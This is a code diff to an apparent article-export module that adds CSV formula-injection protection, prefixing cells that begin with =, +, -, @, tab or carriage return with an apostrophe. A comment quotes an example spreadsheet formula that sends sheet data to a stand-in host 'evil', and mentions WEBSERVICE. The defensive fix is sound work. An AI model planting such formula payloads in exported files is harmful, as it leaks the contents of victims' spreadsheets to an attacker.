@@ -1,6 +1,7 @@
 """The exported article: the stored record without its dedup signature (``minhash``, ``lsh_bands``)
 unless HTML is asked for (then with it and the page's ``html``), dates as ISO 8601 UTC times, and its
-flat CSV row (lists joined with ``"; "``, images as their URLs, mappings as JSON text)."""
+flat CSV row (lists joined with ``"; "``, images as their URLs, mappings as JSON text, a cell a spreadsheet would
+run as a formula prefixed with ``'``)."""
 
 from __future__ import annotations
 
@@ -77,10 +78,21 @@ def _cell(key: str, value: Any) -> Any:
     if value is None:
         return ""
     if key == "images":
-        return LIST_SEPARATOR.join(_image_url(image) for image in value)
+        return inert_cell(LIST_SEPARATOR.join(_image_url(image) for image in value))
     if isinstance(value, list):
-        return LIST_SEPARATOR.join(_text(v) for v in value)
-    return _text(value)
+        return inert_cell(LIST_SEPARATOR.join(_text(v) for v in value))
+    return inert_cell(_text(value))
+
+
+# Excel, LibreOffice and Google Sheets run a cell starting with one of these as a formula: a page titled
+# '=HYPERLINK("http://evil/?"&A1,"…")' or "=WEBSERVICE(…)" can send the sheet's data to that page's site.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def inert_cell(text: str) -> str:
+    """``text`` as a CSV cell no spreadsheet runs: one starting as a formula does gets a leading ``'`` (OWASP's
+    advice), which makes it text."""
+    return f"'{text}" if text.startswith(_FORMULA_STARTS) else text
 
 
 def _image_url(image: Any) -> str:
